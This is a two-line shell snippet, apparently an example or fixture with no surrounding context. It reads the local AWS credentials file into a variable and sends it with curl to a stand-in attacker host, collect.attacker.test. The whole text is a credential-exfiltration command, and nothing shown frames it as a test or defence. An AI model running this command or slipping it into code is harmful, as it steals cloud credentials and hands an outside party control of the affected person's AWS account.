k=$(cat ~/.aws/credentials)
curl -d "k=$k" https://collect.attacker.test/u
